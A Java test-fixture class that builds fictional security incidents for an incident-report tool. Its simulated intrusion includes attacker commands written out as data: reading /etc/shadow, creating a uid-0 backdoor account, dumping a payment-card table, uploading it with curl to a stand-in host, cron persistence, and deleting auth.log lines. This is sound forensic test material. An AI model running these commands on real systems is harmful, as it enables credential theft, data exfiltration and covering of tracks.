package dwell.report;

import dwell.correlate.Confidence;
import dwell.event.Action;
import dwell.event.Dataset;
import dwell.event.Event;
import dwell.event.EventTime;
import dwell.event.Outcome;
import dwell.event.Place;
import dwell.incident.AccountHow;
import dwell.incident.AnswerStatus;
import dwell.incident.Incident;
import dwell.incident.KnownFacts;
import dwell.incident.Origin;
import dwell.incident.PersistenceKind;
import dwell.incident.PhaseName;
import dwell.incident.SecretKind;
import dwell.incident.SessionKind;
import dwell.incident.Stamp;
import dwell.incident.Verdict;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;

/** Incidents that never were, for tests of what is made of them. */
public final class SampleIncidents {
  private static final List<String> NONE = List.of();

  private SampleIncidents() {}

  /** A case in which nothing was seen. */
  public static Incident empty() {
    return with(
        Verdict.NONE,
        List.of(host("kiosk1", null)),
        noDwell(null),
        new Incident.Background(0, 0, List.of()));
  }

  /** Many tried, nobody got in, and a day of records is missing. */
  public static Incident attempt() {
    List<Incident.BackgroundAddress> top = new ArrayList<>();
    for (int i = 1; i <= 40; i++) {
      top.add(new Incident.BackgroundAddress("198.51.100." + i, 4000 / i, 90 / i + 1));
    }
    Incident bare =
        with(
            Verdict.ATTEMPT,
            List.of(host("kiosk1", "America/Lima")),
            noDwell(at("2026-02-03T00:00:11Z")),
            new Incident.Background(12480, 220_415, top));
    return new Incident(
        bare.schema(),
        bare.caseInfo(),
        bare.verdict(),
        Origin.UNKNOWN,
        bare.hosts(),
        List.of(
            new Incident.Answer(
                "Did anybody get in?",
                AnswerStatus.PARTLY,
                "No record shows it.",
                Confidence.LIKELY,
                List.of("aa-0"),
                List.of("auth.log of 4 February is missing"))),
        null,
        List.of(),
        bare.dwell(),
        List.of(),
        bare.background(),
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        List.of(
            new Incident.Gap(
                "kiosk1",
                "var/log/auth.log",
                at("2026-02-04T00:00:00Z"),
                at("2026-02-05T00:00:00Z"),
                "the files before and after touch, this day is in neither")),
        List.of(),
        List.of(),
        List.of(),
        Incident.Containment.NONE);
  }

  private static Incident.Dwell noDwell(@Nullable Stamp contact) {
    return new Incident.Dwell(
        contact,
        null,
        null,
        null,
        null,
        null,
        null,
        List.of(),
        "no",
        "no record shows that anybody got in who should not",
        NONE);
  }

  private static Incident with(
      Verdict verdict, List<Incident.Host> hosts, Incident.Dwell dwell, Incident.Background noise) {
    return new Incident(
        Incident.SCHEMA,
        info(),
        verdict,
        Origin.UNKNOWN,
        hosts,
        List.of(),
        null,
        List.of(),
        dwell,
        List.of(),
        noise,
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        List.of(),
        Incident.Containment.NONE);
  }

  static Incident.CaseInfo info() {
    return new Incident.CaseInfo(
        "quiet-lantern",
        null,
        "dwell",
        "0.1.0",
        "3f2c9a1",
        at("2026-03-20T09:30:00Z"),
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752");
  }

  private static Incident.Host host(String name, @Nullable String zone) {
    return new Incident.Host(
        name,
        List.of("192.0.2.10"),
        zone,
        zone == null ? "assumed" : "image",
        List.of(
            source("var/log/auth.log", "syslog", 48_113_204, NONE),
            source("var/log/nginx/access.log", "web.access", 9_220_118, NONE),
            source(
                "var/log/mysql/general.log",
                "mysql.general",
                1_220_118,
                List.of("offset 88213: cut in the middle of a statement"))));
  }

  private static Incident.Source source(
      String path, String format, long size, List<String> faults) {
    return new Incident.Source(
        path,
        format,
        "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
        size,
        null,
        at("2026-02-01T00:00:03Z"),
        at("2026-03-18T23:59:58Z"),
        412_207,
        412_207,
        13,
        faults);
  }

  static Stamp at(String time) {
    return Stamp.parse(time);
  }

  /** An intrusion over six weeks, with everything that an incident can hold. */
  public static Incident rich() {
    return new Rich().incident();
  }

  private static final class Rich {
    private final List<Incident.ActorSession> sessions = new ArrayList<>();
    private int event;

    private List<String> e(int count) {
      List<String> ids = new ArrayList<>();
      for (int i = 0; i < count; i++) {
        ids.add(
            "5c1f09ab"
                + Integer.toHexString(0x1000 + event++ * 97)
                + "-"
                + Integer.toHexString(event * 211));
      }
      return ids;
    }

    private Incident.Command command(
        @Nullable String time, String text, String as, String outcome) {
      Stamp stamp = time == null ? null : at(time);
      return new Incident.Command(
          stamp, time == null ? 41L : null, null, null, text, as, outcome, e(1).getFirst());
    }

    private Incident.Query query(
        String time,
        String text,
        String operation,
        List<String> tables,
        @Nullable Long rows,
        @Nullable String error) {
      return new Incident.Query(
          at(time),
          text,
          operation,
          tables,
          error == null ? "success" : "failure",
          error,
          rows == null ? null : new Incident.Rows(rows, null),
          e(1).getFirst());
    }

    private void session(
        String id,
        SessionKind kind,
        String host,
        String user,
        @Nullable String ip,
        String start,
        @Nullable String end,
        @Nullable String method,
        @Nullable String parent,
        List<Incident.Command> commands,
        List<Incident.Query> queries) {
      sessions.add(
          new Incident.ActorSession(
              id,
              kind,
              host,
              user,
              ip,
              at(start),
              end == null ? null : at(end),
              method,
              parent,
              "opened from an address that had guessed passwords before",
              Confidence.PROVEN,
              e(2),
              commands,
              queries));
    }

    private void sessions() {
      session(
          "ssh-1",
          SessionKind.SSH,
          "kiosk1",
          "printer",
          "203.0.113.77",
          "2026-02-18T03:12:44Z",
          "2026-02-18T03:58:09Z",
          "password",
          null,
          List.of(
              command("2026-02-18T03:12:51Z", "id; uname -a; w", "printer", "success"),
              command("2026-02-18T03:14:02Z", "sudo -l", "printer", "success"),
              command("2026-02-18T03:14:30Z", "sudo -i", "printer", "success"),
              command("2026-02-18T03:15:10Z", "cat /etc/shadow", "root", "success"),
              command(
                  "2026-02-18T03:17:41Z",
                  "find / -name 'id_*' -o -name '*.env' 2>/dev/null",
                  "root",
                  "success"),
              command("2026-02-18T03:22:05Z", "cat /srv/till/.env", "root", "success"),
              command(
                  "2026-02-18T03:31:00Z",
                  "useradd -o -u 0 -m -s /bin/bash sysmon",
                  "root",
                  "success"),
              command(
                  "2026-02-18T03:31:20Z",
                  "echo 'sysmon:Winter2026!' | chpasswd",
                  "root",
                  "success"),
              command(null, "history -c", "root", "unknown")),
          List.of());
      session(
          "ssh-2",
          SessionKind.SSH,
          "ledger1",
          "backup",
          "192.0.2.10",
          "2026-02-18T03:41:17Z",
          "2026-02-18T03:57:50Z",
          "publickey",
          "ssh-1",
          List.of(
              command(
                  "2026-02-18T03:42:00Z", "mysql -u till -pS3cretTill till", "backup", "success"),
              command(
                  "2026-02-18T03:55:12Z",
                  "mysqldump -u till -pS3cretTill till cards > /tmp/.c.sql",
                  "backup",
                  "success"),
              command(
                  "2026-02-18T03:56:30Z",
                  "curl -T /tmp/.c.sql https://drop:Pa55@files.example.net/up/",
                  "backup",
                  "success")),
          List.of());
      session(
          "db-1",
          SessionKind.DATABASE,
          "ledger1",
          "till",
          null,
          "2026-02-18T03:42:01Z",
          "2026-02-18T03:54:40Z",
          "password",
          "ssh-2",
          List.of(),
          List.of(
              query("2026-02-18T03:42:10Z", "show databases", "SHOW", NONE, 5L, null),
              query(
                  "2026-02-18T03:42:31Z",
                  "SELECT table_name, table_rows\n  FROM information_schema.tables\n WHERE table_schema = 'till'",
                  "SELECT",
                  List.of("information_schema.tables"),
                  14L,
                  null),
              query(
                  "2026-02-18T03:44:02Z",
                  "SELECT * FROM customers LIMIT 20",
                  "SELECT",
                  List.of("till.customers"),
                  20L,
                  null),
              query(
                  "2026-02-18T03:45:55Z",
                  "SELECT name, email, phone FROM customers",
                  "SELECT",
                  List.of("till.customers"),
                  48_211L,
                  null),
              query(
                  "2026-02-18T03:49:20Z",
                  "SELECT pan, expiry, holder FROM cards WHERE expiry > '2026-01'",
                  "SELECT",
                  List.of("till.cards"),
                  null,
                  null),
              query(
                  "2026-02-18T03:52:00Z",
                  "SELECT * FROM mysql.user",
                  "SELECT",
                  List.of("mysql.user"),
                  null,
                  "1142 SELECT command denied to user 'till'@'localhost' for table 'user'")));
      session(
          "ssh-3",
          SessionKind.SSH,
          "kiosk1",
          "sysmon",
          "203.0.113.91",
          "2026-03-09T22:04:09Z",
          "2026-03-09T22:40:00Z",
          "password",
          null,
          List.of(
              command(
                  "2026-03-09T22:05:00Z",
                  "crontab -l; echo '*/20 * * * * /usr/lib/.cache/upd' | crontab -",
                  "sysmon",
                  "success"),
              command(
                  "2026-03-09T22:10:33Z",
                  "sed -i '/203.0.113/d' /var/log/auth.log",
                  "sysmon",
                  "success")),
          List.of());
      session(
          "web-1",
          SessionKind.WEB,
          "kiosk1",
          "www-data",
          "203.0.113.77",
          "2026-03-09T22:31:10Z",
          "2026-03-09T22:33:00Z",
          null,
          null,
          List.of(command("2026-03-09T22:31:10Z", "sh -c id", "www-data", "unknown")),
          List.of());
      session(
          "ssh-4",
          SessionKind.SSH,
          "kiosk1",
          "sysmon",
          "203.0.113.140",
          "2026-03-14T01:20:00Z",
          null,
          "password",
          null,
          List.of(),
          List.of());
    }

    private Incident.Phase phase(
        PhaseName name, String start, String end, long events, String... techniques) {
      return new Incident.Phase(name, at(start), at(end), events, List.of(techniques), e(1));
    }

    private List<Incident.Phase> phases() {
      return List.of(
          phase(
              PhaseName.RECONNAISSANCE,
              "2026-02-16T21:03:00Z",
              "2026-02-18T03:12:40Z",
              3120,
              "T1110.001"),
          phase(
              PhaseName.INITIAL_ACCESS,
              "2026-02-18T03:12:44Z",
              "2026-02-18T03:12:44Z",
              1,
              "T1078.003"),
          phase(
              PhaseName.EXECUTION, "2026-02-18T03:12:51Z", "2026-03-09T22:31:10Z", 15, "T1059.004"),
          phase(
              PhaseName.PRIVILEGE_ESCALATION,
              "2026-02-18T03:14:30Z",
              "2026-02-18T03:14:30Z",
              1,
              "T1548.003"),
          phase(
              PhaseName.PERSISTENCE,
              "2026-02-18T03:31:00Z",
              "2026-03-09T22:05:00Z",
              3,
              "T1136.001",
              "T1053.003"),
          phase(
              PhaseName.CREDENTIAL_ACCESS,
              "2026-02-18T03:15:10Z",
              "2026-02-18T03:22:05Z",
              3,
              "T1003.008"),
          phase(
              PhaseName.LATERAL_MOVEMENT,
              "2026-02-18T03:41:17Z",
              "2026-02-18T03:41:17Z",
              1,
              "T1021.004"),
          phase(
              PhaseName.COLLECTION, "2026-02-18T03:42:10Z", "2026-02-18T03:55:12Z", 7, "T1213.006"),
          phase(PhaseName.EXFILTRATION, "2026-02-18T03:56:30Z", "2026-02-18T03:56:30Z", 1, "T1567"),
          phase(
              PhaseName.DEFENSE_EVASION,
              "2026-03-09T22:10:33Z",
              "2026-03-09T22:10:33Z",
              1,
              "T1070.002"),
          phase(PhaseName.DETECTION, "2026-03-12T08:15:00Z", "2026-03-12T08:15:00Z", 1),
          phase(PhaseName.EVICTION, "2026-03-12T14:40:00Z", "2026-03-12T14:52:00Z", 4),
          phase(PhaseName.RE_ENTRY, "2026-03-14T01:20:00Z", "2026-03-14T01:20:00Z", 1));
    }

    private Incident.ActorAddress address(
        String ip, String first, String last, long tried, long in) {
      return new Incident.ActorAddress(
          ip,
          at(first),
          at(last),
          tried,
          in,
          "guessed passwords, then logged in as printer",
          Confidence.PROVEN,
          NONE,
          e(4));
    }

    private Incident.ActorAccount account(String host, String system, String name, AccountHow how) {
      return new Incident.ActorAccount(
          host,
          system,
          name,
          how,
          at("2026-02-18T03:12:44Z"),
          at("2026-03-14T01:20:00Z"),
          "used in a session of the actor's",
          Confidence.LIKELY,
          how == AccountHow.STOLEN ? List.of("the same key is used by the nightly backup") : NONE,
          e(1));
    }

    private List<Incident.Actor> actors() {
      return List.of(
          new Incident.Actor(
              "actor-1",
              List.of(
                  address("203.0.113.77", "2026-02-16T21:03:00Z", "2026-03-09T22:33:00Z", 3104, 1),
                  address("203.0.113.91", "2026-03-09T22:04:09Z", "2026-03-09T22:40:00Z", 0, 1),
                  address("203.0.113.140", "2026-03-14T01:20:00Z", "2026-03-14T01:20:00Z", 2, 1)),
              List.of(
                  account("kiosk1", "os", "printer", AccountHow.GUESSED),
                  account("kiosk1", "os", "root", AccountHow.REACHED),
                  account("kiosk1", "os", "sysmon", AccountHow.CREATED),
                  account("ledger1", "os", "backup", AccountHow.STOLEN),
                  account("ledger1", "mariadb", "till", AccountHow.STOLEN)),
              List.of("SHA256:9q2Yw1l0cV2kq7mW4S3mD8kYw1Vn0aZ8wQ5r0cT1u2E"),
              List.of("python-requests/2.31.0")));
    }

    private List<Incident.Series> activity() {
      List<Incident.Series> out = new ArrayList<>();
      List<Incident.Point> failed = new ArrayList<>();
      List<Incident.Point> good = new ArrayList<>();
      Instant hour = Instant.parse("2026-02-16T00:00:00Z");
      for (int i = 0; i < 24 * 26; i++) {
        failed.add(
            new Incident.Point(
                new Stamp(hour, 0), i > 20 && i < 51 ? 90 + i % 17 : 3 + i * 7L % 11));
        if (i % 24 > 7 && i % 24 < 18) {
          good.add(new Incident.Point(new Stamp(hour, 0), 2 + i % 3));
        }
        hour = hour.plus(Duration.ofHours(1));
      }
      out.add(new Incident.Series("failed logins", "logins an hour", failed));
      out.add(new Incident.Series("successful logins", "logins an hour", good));
      Stamp db = at("2026-02-18T03:00:00Z");
      out.add(
          new Incident.Series("read", "statements an hour", List.of(new Incident.Point(db, 5))));
      out.add(
          new Incident.Series("schema", "statements an hour", List.of(new Incident.Point(db, 2))));
      return out;
    }

    private Incident incident() {
      sessions();
      return new Incident(
          Incident.SCHEMA,
          info(),
          Verdict.COMPROMISE,
          Origin.EXTERNAL,
          List.of(host("kiosk1", "America/Lima"), host("ledger1", "Etc/UTC")),
          answers(),
          new Incident.Vector(
              "A guessed password: printer on kiosk1 from 198.51.100.9 (3 104 refused attempts from"
                  + " 198.51.100.9 led up to it, on 61 account names; the account's first use that"
                  + " the records show).",
              "T1110.001",
              "kiosk1",
              at("2026-02-18T03:12:44Z"),
              Confidence.PROVEN,
              NONE,
              e(2)),
          phases(),
          new Incident.Dwell(
              at("2026-02-16T21:03:00Z"),
              at("2026-02-18T03:12:44Z"),
              at("2026-03-14T01:20:00Z"),
              at("2026-03-12T08:15:00Z"),
              at("2026-03-12T14:52:00Z"),
              new Incident.Range(1_918_936, 1_926_720.0),
              new Incident.Range(1_942_756, 1_950_540.0),
              List.of(
                  new Incident.Interval(
                      at("2026-02-18T03:12:44Z"),
                      at("2026-02-18T03:58:09Z"),
                      at("2026-02-18T03:58:09Z"),
                      "closed"),
                  new Incident.Interval(
                      at("2026-03-09T22:04:09Z"),
                      at("2026-03-09T22:40:00Z"),
                      at("2026-03-09T22:40:00Z"),
                      "closed"),
                  new Incident.Interval(
                      at("2026-03-14T01:20:00Z"), null, at("2026-03-14T01:21:00Z"), null)),
              "yes",
              "a session of the actor's was open when the evidence was taken",
              List.of(
                  "account sysmon on kiosk1",
                  "cron /usr/lib/.cache/upd on kiosk1",
                  "account till (mariadb) on ledger1: no record shows that it was locked or given a new secret",
                  "private key of backup on kiosk1")),
          actors(),
          new Incident.Background(
              1204, 88_102, List.of(new Incident.BackgroundAddress("198.51.100.9", 9120, 310))),
          sessions,
          data(),
          List.of(
              new Incident.Exfiltration(
                  at("2026-02-18T03:56:30Z"),
                  "ledger1",
                  "/tmp/.c.sql, a dump of till.cards",
                  8_412_113L,
                  "files.example.net",
                  "curl, upload over https",
                  Confidence.LIKELY,
                  e(2))),
          persistence(),
          List.of(
              new Incident.ExposedSecret(
                  SecretKind.PASSWORD_FILE,
                  "kiosk1",
                  "/etc/shadow",
                  null,
                  at("2026-02-18T03:15:10Z"),
                  e(1)),
              new Incident.ExposedSecret(
                  SecretKind.PRIVATE_KEY,
                  "kiosk1",
                  "/root/.ssh/id_backup",
                  "backup on ledger1",
                  null,
                  e(1)),
              new Incident.ExposedSecret(
                  SecretKind.CONFIGURATION,
                  "kiosk1",
                  "/srv/till/.env",
                  "mariadb account till",
                  at("2026-02-18T03:22:05Z"),
                  e(1))),
          List.of(new Incident.Elsewhere("backup", null, List.of("ledger1", "ledger2"), e(1))),
          List.of(
              new Incident.Seen(
                  "192.0.2.31", null, List.of("ssh from ledger1"), false, false, e(1)),
              new Incident.Seen(null, "ledger1", List.of("known_hosts", "ssh"), true, true, e(1))),
          List.of(
              new Incident.Reentry(
                  at("2026-03-13T11:00:00Z"),
                  "203.0.113.77",
                  "printer",
                  "kiosk1",
                  "failure",
                  "an address of the actor's",
                  e(1)),
              new Incident.Reentry(
                  at("2026-03-14T01:20:00Z"),
                  "203.0.113.140",
                  "sysmon",
                  "kiosk1",
                  "success",
                  "an account that the actor made",
                  e(1))),
          List.of(
              new Incident.Gap(
                  "ledger1",
                  "var/log/auth.log",
                  at("2026-03-01T00:00:00Z"),
                  at("2026-03-03T06:00:00Z"),
                  "the rotation before and after touch; these days are in neither")),
          List.of(
              new Incident.Tampering(
                  "lines-removed",
                  "kiosk1",
                  "var/log/auth.log",
                  at("2026-03-09T22:10:33Z"),
                  at("2026-03-09T22:10:33Z"),
                  "a command took lines out; the journal still has them",
                  e(2))),
          List.of(
              new Incident.Finding(
                  "ssh-guessing-success",
                  "Guessing that succeeded",
                  "critical",
                  List.of("T1110.001"),
                  at("2026-02-16T21:03:00Z"),
                  at("2026-02-18T03:12:44Z"),
                  3105,
                  e(5),
                  null),
              new Incident.Finding(
                  "uid-zero-account",
                  "Second account with uid 0",
                  "high",
                  List.of("T1136.001"),
                  at("2026-02-18T03:31:00Z"),
                  at("2026-02-18T03:31:00Z"),
                  1,
                  e(1),
                  null),
              new Incident.Finding(
                  "web-scan",
                  "Web scanner",
                  "low",
                  List.of("T1595.002"),
                  null,
                  null,
                  412,
                  e(1),
                  null)),
          activity(),
          new Incident.Containment(
              List.of("203.0.113.77", "203.0.113.91", "203.0.113.140"),
              List.of("printer@kiosk1", "sysmon@kiosk1", "backup@ledger1"),
              List.of("till@ledger1"),
              List.of(
                  "password and keys of root on kiosk1",
                  "private key /root/.ssh/id_backup",
                  "/srv/till/.env of kiosk1"),
              List.of("account sysmon on kiosk1", "cron /usr/lib/.cache/upd on kiosk1"),
              List.of("sysmon@kiosk1 pid 4113"),
              List.of("kiosk1", "ledger1"),
              List.of("data protection officer and legal counsel: sensitive data was read"),
              List.of("any login of sysmon on kiosk1")));
    }

    private List<Incident.Answer> answers() {
      return List.of(
          new Incident.Answer(
              "How did they get in?",
              AnswerStatus.ANSWERED,
              "The password of printer was guessed over ssh.",
              Confidence.PROVEN,
              e(2),
              NONE),
          new Incident.Answer(
              "Which queries did they run?",
              AnswerStatus.PARTLY,
              "Six statements over one session.",
              Confidence.LIKELY,
              e(2),
              List.of(
                  "rows returned: the general log does not count them",
                  "ledger1's general log is cut at offset 88213")),
          new Incident.Answer(
              "Did data leave?",
              AnswerStatus.UNKNOWN,
              "An upload was started; nothing shows that it ended.",
              null,
              List.of("fact:f2"),
              List.of("no proxy or firewall log is in the evidence")));
    }

    private List<Incident.Data> data() {
      return List.of(
          new Incident.Data(
              "mariadb",
              "till",
              "customers",
              List.of("name", "email", "phone"),
              List.of("SELECT"),
              reached(2),
              new Incident.Rows(48_231L, null),
              "personal data",
              e(2)),
          new Incident.Data(
              "mariadb",
              "till",
              "cards",
              List.of("pan", "expiry", "holder"),
              List.of("SELECT"),
              reached(2),
              new Incident.Rows(null, 31_002L),
              "payment cards",
              e(2)),
          new Incident.Data(
              "mariadb",
              "information_schema",
              "tables",
              List.of("table_name"),
              List.of("SELECT"),
              reached(1),
              new Incident.Rows(14L, 14L),
              null,
              e(1)));
    }

    private List<Incident.Reach> reached(int n) {
      return e(n).stream().map(event -> new Incident.Reach(null, event)).toList();
    }

    private List<Incident.Persistence> persistence() {
      return List.of(
          new Incident.Persistence(
              PersistenceKind.ACCOUNT,
              "kiosk1",
              "sysmon",
              null,
              at("2026-02-18T03:31:00Z"),
              null,
              e(2)),
          new Incident.Persistence(
              PersistenceKind.CRON,
              "kiosk1",
              null,
              "/var/spool/cron/crontabs/sysmon",
              at("2026-03-09T22:05:00Z"),
              null,
              e(1)),
          new Incident.Persistence(
              PersistenceKind.WEB_SHELL,
              "kiosk1",
              null,
              "/srv/till/public/st.php",
              at("2026-03-09T22:30:00Z"),
              at("2026-03-12T14:45:00Z"),
              e(1)));
    }
  }

  /** Facts as a person would give them. */
  static KnownFacts facts() {
    return new KnownFacts(
        "quiet-lantern",
        null,
        new KnownFacts.Fact<>("f1", Instant.parse("2026-03-12T08:15:00Z"), "the till's owner rang"),
        null,
        List.of(),
        List.of(new KnownFacts.Fact<>("f2", "192.0.2.5", "our jump host")),
        List.of(),
        Map.of());
  }

  /** A record for every id, made of the id. */
  static Excerpts excerpts(String record) {
    return ids -> {
      Map<String, Excerpt> out = new LinkedHashMap<>();
      for (String id : ids) {
        Place place =
            new Place("var/log/auth.log", 1_204_411 + out.size() * 117L, 117, 9001 + out.size(), 0);
        EventTime time =
            new EventTime(Instant.parse("2026-02-18T03:12:44Z"), 0, EventTime.Basis.HOST, null);
        Event event =
            new Event(
                id, place, time, Action.LOGIN, Outcome.SUCCESS, Dataset.SSH, Map.of(), List.of());
        out.put(id, new Excerpt("kiosk1", event, record, "ab".repeat(32)));
      }
      return out;
    };
  }
}
